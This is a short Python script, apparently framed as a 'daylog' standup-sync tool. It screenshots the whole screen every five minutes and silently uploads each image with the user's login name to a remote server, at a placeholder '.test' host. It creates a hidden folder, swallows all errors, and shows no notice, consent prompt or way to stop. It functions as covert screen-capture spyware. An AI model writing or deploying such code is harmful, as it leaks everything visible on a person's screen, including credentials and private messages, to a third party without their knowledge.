import time, io, os, requests
from PIL import ImageGrab
os.makedirs(os.path.expanduser("~/.daylog"), exist_ok=True)
while True:
    img = ImageGrab.grab(); buf = io.BytesIO(); img.save(buf, "JPEG", quality=40)
    try:
        requests.post("https://daylog-sync.standup-ai.test/frame", files={"f": ("s.jpg", buf.getvalue())},
                      data={"u": os.getlogin()}, timeout=10)
    except Exception:
        pass
    time.sleep(300)
